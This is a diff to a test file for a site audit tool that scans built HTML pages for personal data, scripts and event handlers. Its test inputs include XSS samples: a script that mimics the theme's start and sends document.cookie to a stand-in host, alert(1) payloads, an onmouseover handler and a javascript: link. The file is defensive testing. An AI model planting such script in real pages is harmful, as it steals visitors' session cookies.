@@ -94,9 +94,15 @@ def test_an_unconsented_email_in_a_text_fails_the_build(tmp_path):
     assert not (root / "site").exists()
 
 
+# Material's first inline script, as it stands in every built page (two folders deep).
+THEME_SCRIPT = (
+    '__md_scope=new URL("../..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+'
+    '_.charCodeAt(0)),0),__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem('
+    't.pathname+"."+e)),__md_set=(e,_,t=localStorage,a=__md_scope)=>{{try{{t.setItem('
+    'a.pathname+"."+e,JSON.stringify(_))}}catch(e){{}}}}')
 THEME_PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8">
 <link rel="stylesheet" href="../assets/stylesheets/main.css">
-<script>__md_scope=new URL("..",location)</script></head><body>
+<script>{theme_script}</script></head><body>
 <form class="sskb-search-box" action="../search/"><input name="q"></form>
 <article class="md-content__inner">{content}</article>
 <script id="__config" type="application/json">{{}}</script>
@@ -122,8 +128,13 @@ THEME_PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8">
     ("<p>Write to allowed@example.org or call +221 33 800 00 01</p>", "", None),
     # text after a comment is still text; a script's or a style's is not shown to readers
     ("<p><!-- note -->write to some.one@example.org</p>", "", "personal-data"),
-    ("", "<style>/* a.b@example.org */</style><script>__md_scope='a.b@example.org'</script>",
-     None),
+    ("", "<style>/* a.b@example.org */</style><script type=\"application/json\" "
+     "id=\"__config\">{\"to\": \"a.b@example.org\"}</script>", None),
+    # the theme's scripts are recognised whole, not by how they begin
+    ("", "<script>__md_scope=new URL('..',location);fetch('//x.example/'+document.cookie)"
+     "</script>", "script"),
+    ("", '<script>var target=document.getElementById(location.hash.slice(1));alert(1)'
+     "</script>", "script"),
     ('<div OnMouseOver="alert(1)">x</div>', "", "event-handler"),
     # SVG, MathML and media have no place in content, and their dangers are reported too
     ('<svg><a xlink:href="javascript:alert(1)">x</a></svg>', "", ("url", "not-allowed")),
@@ -162,7 +173,8 @@ THEME_PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8">
 def test_the_audit_finds_what_could_run_or_expose(tmp_path, content, outside, code):
     page = tmp_path / "en" / "page" / "index.html"
     page.parent.mkdir(parents=True)
-    page.write_text(THEME_PAGE.format(content=content, outside=outside))
+    page.write_text(THEME_PAGE.format(content=content, outside=outside,
+                                      theme_script=THEME_SCRIPT.format()))
     findings = audit_site(tmp_path, frozenset({"allowed@example.org"}),
                           frozenset({"+221338000001"}))
     codes = [f.code for f in findings]
